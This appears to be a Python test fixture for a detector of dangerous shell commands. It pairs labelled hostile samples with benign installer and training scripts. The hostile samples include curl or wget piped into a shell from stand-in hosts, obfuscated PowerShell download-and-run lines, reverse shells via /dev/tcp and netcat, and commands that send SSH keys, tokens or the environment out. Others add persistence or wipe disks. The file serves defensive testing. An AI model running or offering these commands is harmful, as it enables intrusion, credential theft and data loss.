"""Commands of shells: what attackers have people run, and what honest installers do that looks like it."""

ATTACKS = {
    "fetched into a shell": ("curl -fsSL https://a.example/x | sudo -E bash -s -- -y", "shell-runs-fetched", "high"),
    "fetched from a number": ("curl http://203.0.113.7/x | sh", "shell-runs-fetched", "critical"),
    "fetched from a paste": ("wget -qO- https://pastebin.com/raw/x | bash", "shell-runs-fetched", "critical"),
    "through a variable": ('F=curl\n$F -s https://a.example/x|s"h"', "shell-runs-fetched", "high"),
    "without blanks": ("curl${IFS}-s${IFS}https://a.example/x|sh", "shell-runs-fetched", "high"),
    "over two lines": ("curl https://a.example/x \\\n  | sh", "shell-runs-fetched", "high"),
    "in a process substitution": ("bash <(curl -s https://a.example/x)", "shell-runs-fetched", "high"),
    "in a command substitution": ('sh -c "$(wget -qO- https://a.example/x)"', "shell-runs-fetched", "high"),
    "evaluated later": ('C=$(curl -s https://a.example/x)\neval "$C"', "shell-runs-fetched", "high"),
    "in a here-document": ("cat <<E | sh\ncurl https://a.example/x | sh\nE", "shell-runs-fetched", "high"),
    "in a text for a shell": ("bash -c 'curl https://a.example/x | sh'", "shell-runs-fetched", "high"),
    "out of a group": ("{ echo; curl https://a.example/x; } | sh", "shell-runs-fetched", "high"),
    "in a function": ("go() {\n  curl https://a.example/x | python3 -\n}", "shell-runs-fetched", "high"),
    "to a file that is run": (
        "wget https://a.example/x.sh -O /tmp/q\nchmod +x /tmp/q && /tmp/q", "shell-runs-fetched", "medium",
    ),
    "by its own name": ("wget http://203.0.113.7/x.sh; bash x.sh", "shell-runs-fetched", "critical"),
    "decoded": ("echo aWQ= | base64 -d | sh", "shell-runs-decoded", "critical"),
    "decoded in a substitution": ('eval "$(echo aWQ= | base64 --decode)"', "shell-runs-decoded", "critical"),
    "a shell to elsewhere": ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "shell-gives-a-shell-away", "critical"),
    "netcat": ("nc -e /bin/sh 203.0.113.7 4444", "shell-gives-a-shell-away", "critical"),
    "a pipe and netcat": ("mkfifo f; cat f | sh -i 2>&1 | nc 203.0.113.7 1 > f\nmkfifo /tmp/f && nc a 1 </tmp/f", "shell-gives-a-shell-away", "critical"),
    "a key": ("cat ~/.ssh/id_rsa | curl -d @- https://a.example", "shell-sends-secrets", "high"),
    "a token": ("curl -F f=@$HOME/.cache/huggingface/token https://a.example", "shell-sends-secrets", "high"),
    "the environment": ("env | curl -X POST --data-binary @- https://a.example", "shell-sends-secrets", "high"),
    "a schedule": ("(crontab -l; echo '* * * * * /tmp/x') | crontab -", "shell-stays", "medium"),
    "a key to come back with": ("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", "shell-stays", "high"),
    "no history": ("set +o history", "shell-disarms", "medium"),
    "a home": ("rm -rf ~/*", "shell-destroys", "high"),
    "a disk": ("dd if=/dev/zero of=/dev/sda", "shell-destroys", "high"),
    "a container with everything": ("docker run --privileged -v /:/host x", "shell-leaves-its-container", "medium"),
    "a Python in between": ("python3 -c 'import os; os.system(\"id\")'", "python-runs-programs", "medium"),
    "a Python that reads on": ("python3 - <<'E'\nimport base64\nexec(base64.b64decode('aWQ='))\nE", "python-runs-made-code", "high"),
}  # fmt: skip

WINDOWS_ATTACKS = {
    "encoded": ("p^ower^shell -w hidden -e^nc SQBFAFgAIAAoAE4AZQB3AC0A", "shell-runs-decoded", "critical"),
    "fetched and run": ("iex (iwr 'https://a.example/x' -UseBasicParsing)", "shell-runs-fetched", "high"),
    "fetched and piped": ("irm https://a.example/x | iex", "shell-runs-fetched", "high"),
    "spelled in parts": (
        "IE`X((New-Object Net.WebClient).DownloadString('ht'+'tp://203.0.113.7/x'))", "shell-runs-fetched", "critical",
    ),
    "by certutil": (
        "@echo off\r\nset U=http://203.0.113.7/a.exe\r\ncertutil -urlcache -f %U% a.exe\r\na.exe\r\n", "shell-runs-fetched", "critical",
    ),
    "to a file": (
        "Invoke-WebRequest https://a.example/a.exe -OutFile a.exe; Start-Process a.exe", "shell-runs-fetched", "medium",
    ),
    "by mshta": ("mshta https://a.example/x.hta", "shell-runs-fetched", "high"),
    "no scanner of viruses": ("Add-MpPreference -ExclusionPath C:\\", "shell-disarms", "high"),
    "at every start": (
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d x.exe", "shell-stays", "high",
    ),
    "a schedule": ("schtasks /create /tn a /tr x.exe /sc minute", "shell-stays", "medium"),
}  # fmt: skip

HONEST = {
    "a training run": """#!/usr/bin/env bash
set -euo pipefail
export CUDA_VISIBLE_DEVICES=0,1
MODEL="${1:-org/model}"
for seed in 1 2 3; do
  accelerate launch --num_processes 2 train.py --model "$MODEL" --seed $seed 2>&1 | tee "log_$seed.txt"
done
if [ -f out/model.safetensors ]; then
  huggingface-cli upload org/name out/ --repo-type model
fi
rm -rf ./checkpoints/tmp "$OUT/cache"
""",
    "a download": """
wget https://huggingface.co/org/model/resolve/main/model.safetensors -O model.safetensors
curl -L "https://a.example/data.tar.gz" | tar xz
curl -s https://a.example/api | python3 -m json.tool
curl -s https://a.example/api | jq .x
cat names.txt | xargs -n1 echo
echo aGk= | base64 -d > image.png
""",
    "an environment": """
python -m venv .venv && source .venv/bin/activate
pip install -r requirements.txt
echo 'export PATH="$HOME/bin:$PATH"' >> ~/.bashrc
crontab -l
rm -rf /var/lib/apt/lists/* /tmp/build
docker run --gpus all -v "$PWD":/work -p 8000:8000 image
ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519
cat ~/.ssh/id_ed25519.pub
timeout 1 bash -c "</dev/tcp/localhost/8000"
""",
    "a program in Python": """
python - <<EOF
from transformers import AutoModel
print(AutoModel.from_pretrained("$MODEL"))
EOF
python3 -c "import torch; print(torch.__version__)"
""",
}
